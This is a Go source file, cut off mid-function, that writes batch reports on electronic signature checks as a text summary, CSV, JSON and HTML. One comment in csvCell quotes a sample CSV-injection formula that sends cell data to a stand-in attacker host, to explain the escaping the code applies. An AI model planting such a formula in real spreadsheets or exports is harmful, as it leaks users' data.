package batch

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"html/template"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/gostverify/gostverify/i18n"
	"github.com/gostverify/gostverify/verify"
)

// summaryPaths is how many paths WriteSummary lists under each problem.
const summaryPaths = 5

// WriteSummary prints the summary people read on stdout: the counts, the
// problems grouped by sub-indication (the code, its meaning in lang, the
// count and up to five paths), then a last line with the overall verdict.
// It is plain text without colours; paths with control or invisible
// characters are printed quoted, so a file name cannot forge lines.
func (r *Report) WriteSummary(w io.Writer, lang Lang) error {
	s := r.Summary
	type count struct {
		label string
		n     int
		note  string
	}
	counts := []count{
		{lang.Sprintf(i18n.BatchValid), s.Valid, ""},
		{lang.Sprintf(i18n.BatchInvalid), s.Invalid, ""},
		{lang.Sprintf(i18n.BatchIndeterminate), s.Indeterminate, ""},
		{lang.Sprintf(i18n.BatchSignatures), s.Signatures, ""},
		{lang.Sprintf(i18n.BatchDocuments), s.Documents, ""},
		{lang.Sprintf(i18n.BatchUnsigned), s.Unsigned, ""},
	}
	unreadable, refused := r.countKinds()
	if unreadable > 0 {
		counts = append(counts, count{lang.Sprintf(i18n.BatchUnreadable), unreadable, ""})
	}
	if refused > 0 {
		counts = append(counts, count{lang.Sprintf(i18n.BatchRefused), refused, ""})
	}
	if s.NotChecked > 0 || r.Interrupted {
		counts = append(counts, count{lang.Sprintf(i18n.BatchNotChecked), s.NotChecked, " (" + lang.Sprintf(i18n.BatchInterrupted) + ")"})
	}
	if s.Qualified+s.NotQualified+s.QualifiedUnknown > 0 {
		counts = append(counts, count{lang.Sprintf(i18n.BatchCountQualified), s.Qualified, ""},
			count{lang.Sprintf(i18n.BatchCountNotQualified), s.NotQualified, ""},
			count{lang.Sprintf(i18n.BatchCountQualUnknown), s.QualifiedUnknown, ""})
	}
	if s.POAValid+s.POAInvalid+s.POAIndeterminate > 0 {
		counts = append(counts, count{lang.Sprintf(i18n.BatchCountPOAValid), s.POAValid, ""},
			count{lang.Sprintf(i18n.BatchCountPOAInvalid), s.POAInvalid, ""},
			count{lang.Sprintf(i18n.BatchCountPOAUnsure), s.POAIndeterminate, ""})
	}
	if s.Extended+s.NotExtended+s.ExtendFailed > 0 {
		counts = append(counts, count{lang.Sprintf(i18n.BatchCountExtended), s.Extended, ""},
			count{lang.Sprintf(i18n.BatchCountNotExtended), s.NotExtended, ""},
			count{lang.Sprintf(i18n.BatchCountExtendFailed), s.ExtendFailed, ""})
	}
	labelWidth, numWidth := 0, 0
	for _, c := range counts {
		labelWidth = max(labelWidth, utf8.RuneCountInString(c.label)+1)
		numWidth = max(numWidth, len(strconv.Itoa(c.n)))
	}

	var b strings.Builder
	for _, c := range counts {
		label := c.label + ":"
		fmt.Fprintf(&b, "%s%s  %*d%s\n", label, strings.Repeat(" ", labelWidth-utf8.RuneCountInString(label)), numWidth, c.n, c.note)
	}
	if pol := r.policyLines(lang); len(pol) > 0 {
		b.WriteString("\n")
		for _, p := range pol {
			fmt.Fprintf(&b, "%s: %s\n", p.Label, p.Value)
		}
	}
	if len(r.Warnings) > 0 {
		fmt.Fprintf(&b, "\n%s:\n", lang.Sprintf(i18n.BatchWarnings))
		for _, w := range r.Warnings {
			fmt.Fprintf(&b, "  %s\n", w)
		}
	}
	if len(s.Problems) > 0 {
		fmt.Fprintf(&b, "\n%s:\n", lang.Sprintf(i18n.BatchProblems))
		for _, p := range s.Problems {
			fmt.Fprintf(&b, "  %s (%d): %s\n", p.SubIndication, p.Count, meaning(p.SubIndication, lang))
			paths, err := r.problemPaths(&p, summaryPaths)
			if err != nil {
				return err
			}
			shown := len(paths)
			for _, path := range paths {
				fmt.Fprintf(&b, "    %s\n", displayPath(path))
			}
			if more := max(p.Count, len(p.Paths)) - shown; more > 0 {
				fmt.Fprintf(&b, "    %s\n", lang.Sprintf(i18n.BatchAndMore, more))
			}
		}
	}
	fmt.Fprintf(&b, "\n%s: %s\n", lang.Sprintf(i18n.BatchResult), r.resultText(lang))
	_, err := io.WriteString(w, b.String())
	return err
}

// labelled is a line of the report's header: a label and its value.
type labelled struct{ Label, Value string }

// policyLines say the validation policy and, under the qualified policy,
// the list of accredited CAs used; none for a report that does not name
// its policy (one made before policies were).
func (r *Report) policyLines(lang Lang) []labelled {
	switch r.Policy {
	case verify.PolicyBasic:
		return []labelled{{lang.Sprintf(i18n.BatchPolicy), lang.Sprintf(i18n.BatchPolicyBasic)}}
	case verify.PolicyQualified:
		list := lang.Sprintf(i18n.BatchTSLNone)
		switch {
		case r.TSL != nil && r.TSL.Unverified:
			list = lang.Sprintf(i18n.BatchTSLUnverified, r.TSL.Version, formatListTime(r.TSL.Date))
		case r.TSL != nil:
			list = lang.Sprintf(i18n.BatchTSLEdition, r.TSL.Version, formatListTime(r.TSL.Date))
		}
		return []labelled{{lang.Sprintf(i18n.BatchPolicy), lang.Sprintf(i18n.BatchPolicyQualified)},
			{lang.Sprintf(i18n.BatchTSL), list}}
	case "":
		return nil
	}
	return []labelled{{lang.Sprintf(i18n.BatchPolicy), string(r.Policy)}}
}

// countKinds counts the unreadable and refused entries.
func (r *Report) countKinds() (unreadable, refused int) {
	if r.src != nil && r.kinds != nil {
		return r.kinds[0], r.kinds[1]
	}
	for i := range r.Entries {
		switch r.Entries[i].Kind {
		case KindUnreadable:
			unreadable++
		case KindRefused:
			refused++
		}
	}
	return unreadable, refused
}

// overall is the run's verdict: r.Status, or when it is unset the worst
// status of the entries that count (signatures, unreadable, refused).
func (r *Report) overall() verify.Status {
	if r.Status != "" {
		return r.Status
	}
	st := verify.Valid
	r.eachEntry(func(e *Entry) error {
		if e.Kind != KindDocument && (e.Status == Valid || e.Status == Invalid || e.Status == Indeterminate) {
			st = verify.Worst(st, e.Status.verdict())
		}
		return nil
	})
	return st
}

// resultText says the overall verdict in a sentence.
func (r *Report) resultText(lang Lang) string {
	s := r.Summary
	m := i18n.BatchResultInvalid
	switch {
	case s.Valid+s.Invalid+s.Indeterminate == 0:
		m = i18n.BatchResultNone
	case r.overall() == verify.Valid:
		m = i18n.BatchResultValid
	case r.overall() == verify.Indeterminate:
		m = i18n.BatchResultIndeterminate
	}
	t := lang.Sprintf(m)
	if r.Interrupted || s.NotChecked > 0 {
		t += "; " + lang.Sprintf(i18n.BatchResultInterrupted, s.NotChecked)
	}
	return t
}

// displayPath is a path for reading: as it is, or Go-quoted when it holds
// control, format (bidirectional overrides) or other non-printable
// characters, is not UTF-8, or starts with a double quote (so that a
// quoted path is never also a name as it is: strconv.Unquote reads it
// back).
func displayPath(p string) string {
	if !utf8.ValidString(p) || strings.HasPrefix(p, `"`) {
		return strconv.Quote(p)
	}
	for _, c := range p {
		if !unicode.IsPrint(c) {
			return strconv.Quote(p)
		}
	}
	return p
}

// signerName is how a person reads the signer: "Surname Given names" when
// the certificate has both, else the common name.
func signerName(s *verify.Signer) string {
	if s == nil {
		return ""
	}
	if s.Surname != "" && s.GivenName != "" {
		return s.Surname + " " + s.GivenName
	}
	if s.CommonName != "" {
		return s.CommonName
	}
	return s.Surname
}

// flatten lists signers depth first: each signer, then its
// countersignatures.
func flatten(list []verify.SignatureReport, out []*verify.SignatureReport) []*verify.SignatureReport {
	for i := range list {
		out = append(out, &list[i])
		out = flatten(list[i].Countersignatures, out)
	}
	return out
}

// signersOf lists the signer reports of a verify report, depth first.
func signersOf(v *verify.Report) []*verify.SignatureReport {
	if v == nil {
		return nil
	}
	return flatten(v.Signatures, nil)
}

// explanation is the sub-indication and reason of an entry as a whole,
// with v its verify report localized (nil when none was kept): the
// entry's own, in v's language when it was copied from the report or one
// of its signers (Run does), or v's when the entry has none (a file that
// is not a signature).
func (e *Entry) explanation(v *verify.Report) (verify.SubIndication, string) {
	orig := e.Verification
	switch {
	case v == nil:
		return e.SubIndication, e.Reason
	case e.SubIndication == "" && e.Reason == "":
		return v.SubIndication, v.Reason
	case e.SubIndication == orig.SubIndication && e.Reason == orig.Reason:
		return v.SubIndication, v.Reason
	}
	for i := range orig.Signatures {
		if s := &orig.Signatures[i]; e.SubIndication == s.SubIndication && e.Reason == s.Reason {
			return v.Signatures[i].SubIndication, v.Signatures[i].Reason
		}
	}
	return e.SubIndication, e.Reason
}

// WriteCSV writes one row per signer of every signature entry
// (countersignatures as their own rows, position "1.1"), and one row for
// each other entry that would not appear otherwise: unreadable, refused,
// a signature without signers (malformed, orphan, not checked), and a
// document no signature row names. Columns:
//
//	path, document, pairing, position, verdict, subindication, reason,
//	signer, organization, inn, innle, ogrn, snils, signing_time,
//	revocation_status, revocation_source, level, best_signature_time,
//	qualified, qualified_ca, power_of_attorney, poa_number,
//	pdf_field, pdf_revision, pdf_modified_after
//
// The header and the reasons of the verify reports are in lang; the codes
// (verdict, subindication, pairing, revocation status and source) are
// never translated, and an entry's reason kept without its verify report
// (Options.SummaryOnly) is in the language it was written in. ogrn is
// the OGRN, or the OGRNIP when there is no OGRN; signing_time is RFC 3339
// UTC. level is the CAdES form the signer's attributes show ("CAdES-BES",
// "CAdES-T", "CAdES-X Long Type 1", ...) and best_signature_time, RFC 3339
// UTC, the time a valid timestamp proves the signature existed at, empty
// when none does (provenTime). qualified is the signer's qualified status
// ("qualified", "not_qualified", "unknown"; empty under the basic policy)
// and qualified_ca the issuing CA as the list of accredited CAs names it;
// power_of_attorney is the status of the power of attorney the signer was
// judged by ("valid", "invalid", "indeterminate", "not_checked"; empty
// when none) and poa_number its number; for a signature inside a PDF,
// pdf_field is its field, pdf_revision the revision it covers and
// pdf_modified_after whether the file was changed after it.
// Columns are only ever added at the end. Paths are named as in the other reports (EscapePath). Cells are
// quoted as RFC 4180 says, and a cell starting with "=", "+", "-", "@", a
// tab or a carriage return, which a spreadsheet would read as a formula,
// is prefixed with "'" (and so is one starting with "'": removing one
// leading "'" from every cell that has one gives the values back).
func (r *Report) WriteCSV(w io.Writer, lang Lang) error {
	cw := &csvWriter{csv.NewWriter(w)}
	header := make([]string, len(csvHeader))
	for i, m := range csvHeader {
		header[i] = lang.Sprintf(m)
	}
	if err := cw.Write(header); err != nil {
		return err
	}
	// A report read from a state knows which documents are named.
	named := make(map[string]bool)
	for i := range r.Entries {
		if e := &r.Entries[i]; e.Kind == KindSignature && e.Document != "" {
			named[e.Document] = true
		}
	}
	err := r.eachEntry(func(e *Entry) error {
		v := localized(e.Verification, lang)
		signers := signersOf(v)
		if len(signers) == 0 {
			if e.Kind == KindDocument && (e.named || named[e.Path]) {
				return nil // it is in the document column of its signatures
			}
			sub, reason := e.explanation(v)
			row := []string{e.Path, e.Document, e.Pairing, "", string(e.Status), string(sub), reason}
			row = append(row, make([]string, len(csvHeader)-len(row)-2)...)
			return cw.Write(append(row, extensionCells(e)...))
		}
		for _, s := range signers {
			var name, org, inn, innle, ogrn, snils, when string
			if p := s.Signer; p != nil {
				name, org, inn, innle, ogrn, snils = signerName(p), p.Organization, p.INN, p.INNLE, p.OGRN, p.SNILS
				if ogrn == "" {
					ogrn = p.OGRNIP
				}
			}
			if s.SigningTime != nil {
				when = s.SigningTime.UTC().Format(time.RFC3339)
			}
			var proven string
			if t := provenTime(s); t != nil {
				proven = t.UTC().Format(time.RFC3339)
			}
			var qualified, qualifiedCA string
			if q := s.Qualified; q != nil {
				qualified = q.Status
				if q.CA != nil {
					qualifiedCA = q.CA.Name
				}
			}
			var poaStatus, poaNumber string
			if p := s.POA; p != nil {
				poaStatus, poaNumber = p.Status, p.Number
			}
			var pdfField, pdfRevision, pdfModified string
			if p := s.PDF; p != nil {
				pdfField, pdfRevision, pdfModified = p.Field, strconv.Itoa(p.Revision), strconv.FormatBool(p.ModifiedAfter)
			}
			row := []string{e.Path, e.Document, e.Pairing, s.Position, string(s.Status), string(s.SubIndication), s.Reason,
				name, org, inn, innle, ogrn, snils, when, s.Revocation.Status, s.Revocation.Source, s.Level, proven,
				qualified, qualifiedCA, poaStatus, poaNumber, pdfField, pdfRevision, pdfModified}
			row = append(row, extensionCells(e)...)
			if err := cw.Write(row); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		return err
	}
	cw.Flush()
	return cw.Error()
}

// csvHeader names the columns of WriteCSV: in English the names programs
// know, in Russian words for people.
var csvHeader = []i18n.Message{
	i18n.BatchCSVPath, i18n.BatchCSVDocument, i18n.BatchCSVPairing, i18n.BatchCSVPosition, i18n.BatchCSVVerdict,
	i18n.BatchCSVSubIndication, i18n.BatchCSVReason, i18n.BatchCSVSigner, i18n.BatchCSVOrganization, i18n.BatchCSVINN,
	i18n.BatchCSVINNLE, i18n.BatchCSVOGRN, i18n.BatchCSVSNILS, i18n.BatchCSVSigningTime, i18n.BatchCSVRevocationStatus,
	i18n.BatchCSVRevocationSource, i18n.BatchCSVLevel, i18n.BatchCSVBestSignatureTime,
	i18n.BatchCSVQualified, i18n.BatchCSVQualifiedCA, i18n.BatchCSVPOA, i18n.BatchCSVPOANumber,
	i18n.BatchCSVPDFField, i18n.BatchCSVPDFRevision, i18n.BatchCSVPDFModified,
	i18n.BatchCSVExtension, i18n.BatchCSVExtensionOut,
}

// extensionCells are the CSV cells of e's Extension: its status and the
// file written, or the reason code.
func extensionCells(e *Entry) []string {
	x := e.Extension
	switch {
	case x == nil:
		return []string{"", ""}
	case x.Status == Extended:
		return []string{x.Status, x.Output}
	default:
		return []string{x.Status + ":" + x.Code, ""}
	}
}

// csvWriter writes rows through csvCell.
type csvWriter struct{ *csv.Writer }

func (w *csvWriter) Write(row []string) error {
	cells := make([]string, len(row))
	for i, c := range row {
		cells[i] = csvCell(c)
	}
	return w.Writer.Write(cells)
}

// csvCell is a cell as WriteCSV writes it. A cell starting with "=", "+",
// "-", "@", a tab or a carriage return is read as a formula by Excel,
// LibreOffice and Google Sheets, so a certificate's subject or a file name
// such as `=HYPERLINK("http://evil.example/?"&A1, "open")` would run
// there: such a cell is prefixed with "'", which spreadsheets take as
// "this is text" (OWASP, CSV Injection). A cell starting with "'" gets
// one too, so that a program reading the file back removes one leading
// "'" from any cell that has one and always gets the value.
func csvCell(s string) string {
	if s != "" && strings.IndexByte("=+-@\t\r'", s[0]) >= 0 {
		return "'" + s
	}
	return s
}

// WriteJSON writes the report as indented JSON, the same text as
// json.Encoder with two-space indentation and no HTML escaping would, but
// one entry at a time: a report of many thousands of files never has its
// whole text in memory.
func (r *Report) WriteJSON(w io.Writer) error {
	bw := bufio.NewWriter(w)
	head := *r
	head.src, head.Entries = nil, []Entry{}
	if r.src != nil {
		// Each problem's paths are read from the state where its marker is.
		head.Summary.Problems = slices.Clone(r.Summary.Problems)
		for i := range head.Summary.Problems {
			head.Summary.Problems[i].Paths = []string{pathsMarker(i)}
		}
	}
	b, err := encodeJSON(&head, "")
	if err != nil {
		return err
	}
	// Entries is the last field: the head ends with its empty array.
	const empty = "[]\n}\n"
	if !bytes.HasSuffix(b, []byte(empty)) {
		return errors.New("batch: the report's JSON does not end with its entries")
	}
	b = b[:len(b)-len(empty)]
	if r.src != nil {
		if b, err = r.writeProblemPaths(bw, b); err != nil {
			return err
		}
	}
	bw.Write(b)
	// Entries are encoded a window at a time on every CPU, and written
	// in order.
	window := make([]*Entry, 0, jsonWindow*runtime.NumCPU())
	if r.src == nil {
		window = window[:0:min(cap(window), len(r.Entries))]
	}
	encoded := make([][]byte, cap(window))
	errs := make([]error, cap(window))
	first := true
	flush := func() error {
		n := len(window)
		var wg sync.WaitGroup
		for lo := 0; lo < n; lo += jsonWindow {
			wg.Go(func() {
				for i := lo; i < min(lo+jsonWindow, n); i++ {
					encoded[i], errs[i] = encodeJSON(window[i], "    ")
				}
			})
		}
		wg.Wait()
		for i, b := range encoded[:n] {
			if errs[i] != nil {
				return errs[i]
			}
			if first {
				bw.WriteString("[\n    ")
				first = false
			} else {
				bw.WriteString(",\n    ")
			}
			bw.Write(bytes.TrimSuffix(b, []byte("\n")))
		}
		window = window[:0]
		return nil
	}
	err = r.eachEntry(func(e *Entry) error {
		window = append(window, e)
		if len(window) == cap(window) {
			return flush()
		}
		return nil
	})
	if err == nil {
		err = flush()
	}
	if err != nil {
		return err
	}
	if first {
		bw.WriteString(empty)
	} else {
		bw.WriteString("\n  ]\n}\n")
	}
	return bw.Flush()
}

// pathsMarker is the path WriteJSON puts in problem i of a report kept in
// a state, where its paths are written: no file has a name with NUL.
func pathsMarker(i int) string { return fmt.Sprintf("\x00paths of problem %d", i) }

// writeProblemPaths writes head, the JSON text of a report kept in a
// state up to its entries, with each problem's paths read from the state
// in place of its marker, and returns what is left of head after the
// last.
func (r *Report) writeProblemPaths(bw *bufio.Writer, head []byte) ([]byte, error) {
	const indent = "\n          " // of the elements of summary.problems[i].paths
	for i := range r.Summary.Problems {
		m, err := encodeJSON(pathsMarker(i), "")
		if err != nil {
			return nil, err
		}
		m = append([]byte(indent), bytes.TrimSuffix(m, []byte("\n"))...)
		at := bytes.Index(head, m)
		if at < 0 {
			return nil, errors.New("batch: the report's JSON has no place for the paths of a problem")
		}
		bw.Write(head[:at])
		head = head[at+len(m):]
		n := 0
		err = r.src.problemPaths(r.Summary.Problems[i].SubIndication, func(path string) error {
			p, err := encodeJSON(path, "")
			if err != nil {
				return err
			}
			if n > 0 {
				bw.WriteByte(',')
			}
			n++
			bw.WriteString(indent)
			_, err = bw.Write(bytes.TrimSuffix(p, []byte("\n")))
			return err
		})
		if err != nil {
			return nil, err
		}
	}
	return head, nil
}

// jsonWindow is how many entries one goroutine of WriteJSON encodes at a
// time.
const jsonWindow = 64

// encodeJSON encodes v indented by two spaces after prefix, without HTML
// escaping, with a final newline.
func encodeJSON(v any, prefix string) ([]byte, error) {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	enc.SetIndent(prefix, "  ")
	if err := enc.Encode(v); err != nil {
		return nil, err
	}
	return b.Bytes(), nil
}

// WriteFile writes the report to path in the format its extension names:
// .json (the Report as indented JSON), .csv or .html/.htm, in any case.
// Another extension is an error, returned before anything is written. The
// report goes to a temporary file in the same directory that is renamed
// into place, so a run stopped midway never leaves half a report (at worst
// the temporary file).
func WriteFile(path string, r *Report, lang Lang) error {
	var write func(io.Writer) error
	switch ext := strings.ToLower(filepath.Ext(path)); ext {
	case ".json":
		write = r.WriteJSON
	case ".csv":
		write = func(w io.Writer) error { return r.WriteCSV(w, lang) }
	case ".html", ".htm":
		write = func(w io.Writer) error { return r.WriteHTML(w, lang) }
	default:
		return fmt.Errorf("batch: %s: unknown report format: the name must end in .json, .csv, .html or .htm", path)
	}
	// Replacing a report keeps its permissions; a new one is 0644.
	mode := fs.FileMode(0o644)
	if fi, err := os.Stat(path); err == nil && fi.Mode().IsRegular() {
		mode = fi.Mode().Perm()
	}
	f, err := os.CreateTemp(filepath.Dir(path), "."+filepath.Base(path)+".*.tmp")
	if err != nil {
		return fmt.Errorf("batch: %w", err)
	}
	tmp := f.Name()
	bw := bufio.NewWriter(f)
	err = write(bw)
	if err == nil {
		err = bw.Flush()
	}
	if err == nil {
		err = f.Chmod(mode)
	}
	if err == nil {
		err = f.Sync()
	}
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	if err == nil {
		err = os.Rename(tmp, path)
	}
	if err != nil {
		err = errors.Join(fmt.Errorf("batch: writing %s: %w", path, err), ignoreNotExist(os.Remove(tmp)))
	}
	return err
}

func ignoreNotExist(err error) error {
	if errors.Is(err, fs.ErrNotExist) {
		return nil
	}
	return err
}

// eachSorted calls fn with every entry of r in path order (a report's
// entries in memory normally already are in it).
func (r *Report) eachSorted(fn func(*Entry) error) error {
	if r.src != nil || slices.IsSortedFunc(r.Entries, func(a, b Entry) int { return strings.Compare(a.Path, b.Path) }) {
		return r.eachEntry(fn)
	}
	out := make([]*Entry, len(r.Entries))
	for i := range r.Entries {
		out[i] = &r.Entries[i]
	}
	sort.SliceStable(out, func(i, j int) bool { return out[i].Path < out[j].Path })
	for _, e := range out {
		if err := fn(e); err != nil {
			return err
		}
	}
	return nil
}

// htmlPaths is how many paths the HTML report lists under each problem;
// every file has its own section further down.
const htmlPaths = 20

// WriteHTML writes the "signature verification report" (протокол проверки
// электронных подписей) in lang as one self-contained HTML5 file: inline
// CSS, no scripts, no external resources, readable in print (badges carry
// text, not only colour). It has the run's time, inputs and verdict, the
// counts, the problems by sub-indication, then every document in path
// order with its signatures and signers, and sections for attached
// signatures, signatures without a document, unreadable, refused and
// unchecked inputs. The reasons, notes and warnings of the verify reports
// are printed in lang. File names and certificate fields are escaped by
// html/template.
func (r *Report) WriteHTML(w io.Writer, lang Lang) error {
	v, err := r.htmlView(lang)
	if err != nil {
		return err
	}
	bw := bufio.NewWriter(w)
	uw := &validUTF8{w: bw}
	if err := reportTemplate.ExecuteTemplate(uw, "head", v); err != nil {
		return err
	}
	if err := r.writeHTMLEntries(uw, v.L, lang); err != nil {
		return err
	}
	if err := uw.flush(); err != nil {
		return err
	}
	return bw.Flush()
}

// validUTF8 passes text on with each byte that is not UTF-8 replaced by
// U+FFFD, so the page stays valid UTF-8 (html/template escapes markup, not
// encodings); a rune split between two writes is held until it is whole.
type validUTF8 struct {
	w       io.Writer
	pending []byte
}

func (v *validUTF8) Write(p []byte) (int, error) {
	data := append(v.pending, p...)
	cut := len(data)
	// Hold back the start of a rune that the next write may complete.
	for i := len(data) - 1; i >= 0 && i >= len(data)-utf8.UTFMax+1; i-- {
		if utf8.RuneStart(data[i]) {
			if !utf8.FullRune(data[i:]) {
				cut = i
			}
			break
		}
	}
	if _, err := io.WriteString(v.w, strings.ToValidUTF8(string(data[:cut]), "\uFFFD")); err != nil {
		return 0, err
	}
	v.pending = append(v.pending[:0], data[cut:]...)
	return len(p), nil
}

func (v *validUTF8) flush() error {
	_, err := io.WriteString(v.w, strings.ToValidUTF8(string(v.pending), "\uFFFD"))
	v.pending = nil
	return err
}

// htmlLabels are the words of the HTML report in one language.
type htmlLabels struct {
	Title, Started, Finished, Inputs, Result, Summary, Problems, Count, Code, Meaning, Paths string
	DocumentsHeading, AttachedHeading, OrphansHeading, UnreadableHeading                     string
	RefusedHeading, NotCheckedHeading, SignatureFile, Document, Pairing, Signer, JobTitle    string
	Organization, INN, INNLE, OGRN, OGRNIP, SNILS, SigningTime, Verdict, Reason, Detail      string
	Chain, Revocation, Warnings, NoSignatures, None, Extension                               string
	Form, Timestamps, TimestampKind, TimestampTime, TSA, BestSignatureTime, Layers           string
	Qualified, QualifiedCA, QualifiedChecks                                                  string
	POA, POARegistry, POAPowers                                                              string
}

func htmlLabelsIn(l Lang) *htmlLabels {
	t := func(m i18n.Message) string { return l.Sprintf(m) }
	return &htmlLabels{
		Title: t(i18n.BatchTitle), Started: t(i18n.BatchStarted), Finished: t(i18n.BatchFinished),
		Inputs: t(i18n.BatchInputs), Result: t(i18n.BatchResult), Summary: t(i18n.BatchSummary),
		Problems: t(i18n.BatchProblems), Count: t(i18n.BatchCount), Code: t(i18n.BatchCode),
		Meaning: t(i18n.BatchMeaning), Paths: t(i18n.BatchPaths),
		DocumentsHeading: t(i18n.BatchDocumentsHeading), AttachedHeading: t(i18n.BatchAttachedHeading),
		OrphansHeading: t(i18n.BatchOrphansHeading), UnreadableHeading: t(i18n.BatchUnreadableHeading),
		RefusedHeading: t(i18n.BatchRefusedHeading), NotCheckedHeading: t(i18n.BatchNotCheckedHeading),
		SignatureFile: t(i18n.BatchSignatureFile), Document: t(i18n.BatchDocument), Pairing: t(i18n.BatchPairing),
		Extension: t(i18n.BatchExtension),
		Signer:    t(i18n.BatchSigner), JobTitle: t(i18n.BatchJobTitle), Organization: t(i18n.BatchOrganization),
		INN: t(i18n.BatchINN), INNLE: t(i18n.BatchINNLE), OGRN: t(i18n.BatchOGRN), OGRNIP: t(i18n.BatchOGRNIP),
		SNILS: t(i18n.BatchSNILS), SigningTime: t(i18n.BatchSigningTime), Verdict: t(i18n.BatchVerdict),
		Reason: t(i18n.BatchReason), Detail: t(i18n.BatchDetail), Chain: t(i18n.BatchChain),
		Revocation: t(i18n.BatchRevocation), Warnings: t(i18n.BatchWarnings), NoSignatures: t(i18n.BatchNoSignatures),
		None: t(i18n.BatchNone),
		Form: t(i18n.BatchForm), Timestamps: t(i18n.BatchTimestamps), TimestampKind: t(i18n.BatchTimestampKind),
		TimestampTime: t(i18n.BatchTimestampTime), TSA: t(i18n.BatchTSA), BestSignatureTime: t(i18n.BatchBestSignatureTime),
		Layers: t(i18n.BatchLayers), Qualified: t(i18n.BatchQualified), QualifiedCA: t(i18n.BatchQualifiedCA),
		QualifiedChecks: t(i18n.BatchQualifiedChecks),
		POA:             t(i18n.BatchPOA), POARegistry: t(i18n.BatchPOARegistry), POAPowers: t(i18n.BatchPOAPowers),
	}
}

type badgeView struct{ Class, Text string }

type countView struct {
	Label string
	N     int
}

type problemView struct {
	Code, Meaning string
	Count         int
	Paths         []string
	More          string
}

type docView struct {
	Path       string
	Badge      *badgeView
	Code       string
	Meaning    string
	Reason     string
	Signatures []*sigView
}

type sigView struct {
	L                       *htmlLabels
	Path, Document, Pairing string
	Extension               string
	Badge                   *badgeView
	Code, Meaning, Reason   string
	Warnings                []string
	Signers                 []*signerView
}

type signerView struct {
	L                                                          *htmlLabels
	Heading                                                    string
	Name, Title, Organization, INN, INNLE, OGRN, OGRNIP, SNILS string
	SigningTime                                                string
	Badge                                                      *badgeView
	Code, Meaning, Reason, Detail                              string
	Chain                                                      []string
	Revocation, RevocationNote                                 string
	Warnings                                                   []string
	Level, BestSignatureTime                                   string
	Timestamps                                                 []timestampView
	Layers                                                     []layerView
	Qualified                                                  *qualifiedView
	POA                                                        *poaView
	PDF                                                        string // where it sits in a PDF and what it covers
	Countersignatures                                          []*signerView
}

// poaView is the power of attorney a signer was judged by: its verdict,
// the reason, its number, parties and period, the codes of its powers and
// the registry's answer.
type poaView struct {
	Badge                           *badgeView
	Reason, Number, Parties, Powers string
	Registry                        string
}

func poaViewOf(p *verify.POAReport, lang Lang) *poaView {
	if p == nil {
		return nil
	}
	v := &poaView{Badge: partBadge(verify.Status(p.Status), lang), Reason: p.Reason, Number: p.Number, Powers: p.Codes()}
	if p.Number != "" {
		v.Parties = p.Parties(lang)
	}
	if r := p.Registry; r != nil && p.Number != "" {
		v.Registry = verify.RegistryWords(lang, r.Status)
		if r.CheckedAt != nil {
			v.Registry += ", " + formatTime(*r.CheckedAt)
		}
	}
	return v
}

// qualifiedView is the qualified status of a signer: a line saying it,
// the reason, the CA as the list names it with its status then, and the
// checks not passed (their codes; the details, which are English, only in
// English).
type qualifiedView struct {
	Badge        *badgeView
	Reason       string
	CA, CAStatus string
	Checks       []checkView
}

type checkView struct{ Code, Result, Detail string }

// timestampView is a timestamp token of a signer: what it covers in
// words, its time and TSA, its verdict and, when not valid, why.
type timestampView struct {
	Kind, Time, TSA string
	Badge           *badgeView
	Code, Reason    string
}

// layerView is what a layer of a long-term signature showed.
type layerView struct {
	Level  string
	Badge  *badgeView
	Reason string
}

type entryView struct {
	Path          string
	Badge         *badgeView
	Code, Meaning string
	Reason        string
}

type htmlView struct {
	Lang              string
	L                 *htmlLabels
	Started, Finished string
	Inputs            []string
	Policy            []labelled
	Warnings          []string
	Result            string
	ResultBadge       *badgeView
	Counts            []countView
	Problems          []problemView
}

// badgeSymbols mark a status without colour.
var badgeSymbols = map[Status]struct{ class, symbol string }{
	Valid:         {"b-valid", "✓"},
	Invalid:       {"b-invalid", "✗"},
	Indeterminate: {"b-indet", "?"},
	Unsigned:      {"b-unsigned", "—"},
	NotChecked:    {"b-notchecked", "…"},
}

func badge(s Status, lang Lang) *badgeView {
	if s == "" {
		return nil
	}
	b, ok := badgeSymbols[s]
	if !ok {
		return &badgeView{Class: "b-other", Text: string(s)}
	}
	return &badgeView{Class: b.class, Text: b.symbol + " " + statusLabel(s, lang)}
}

// formatListTime prints a time of the list of accredited CAs in the zone
// it was written in (Moscow time), as the list says it: a status from
// midnight in Moscow is of that day.
func formatListTime(t time.Time) string { return t.Format("2006-01-02 15:04 -07:00") }

func formatTime(t time.Time) string {
	if t.IsZero() {
		return ""
	}
	return t.UTC().Format("2006-01-02 15:04:05 UTC")
}

func (r *Report) htmlView(lang Lang) (*htmlView, error) {
	l := htmlLabelsIn(lang)
	s := r.Summary
	v := &htmlView{
		Lang: string(lang), L: l,
		Started: formatTime(r.Started), Finished: formatTime(r.Finished),
		Result: r.resultText(lang), ResultBadge: badge(statusOf(r.overall()), lang),
	}
	if v.Lang != string(Russian) {
		v.Lang = string(English)
	}
	for _, in := range r.Inputs {
		v.Inputs = append(v.Inputs, displayPath(in))
	}
	v.Policy, v.Warnings = r.policyLines(lang), r.Warnings
	unreadable, refused := r.countKinds()
	for _, c := range []struct {
		m i18n.Message
		n int
	}{
		{i18n.BatchFiles, s.Files}, {i18n.BatchValid, s.Valid}, {i18n.BatchInvalid, s.Invalid},
		{i18n.BatchIndeterminate, s.Indeterminate}, {i18n.BatchSignatures, s.Signatures}, {i18n.BatchDocuments, s.Documents},
		{i18n.BatchUnsigned, s.Unsigned}, {i18n.BatchUnreadable, unreadable}, {i18n.BatchRefused, refused},
		{i18n.BatchNotChecked, s.NotChecked},
	} {
		v.Counts = append(v.Counts, countView{lang.Sprintf(c.m), c.n})
	}
	for _, p := range s.Problems {
		pv := problemView{Code: string(p.SubIndication), Meaning: meaning(p.SubIndication, lang), Count: p.Count}
		paths, err := r.problemPaths(&p, htmlPaths)
		if err != nil {
			return nil, err
		}
		shown := len(paths)
		for _, path := range paths {
			pv.Paths = append(pv.Paths, displayPath(path))
		}
		if more := max(p.Count, len(p.Paths)) - shown; more > 0 {
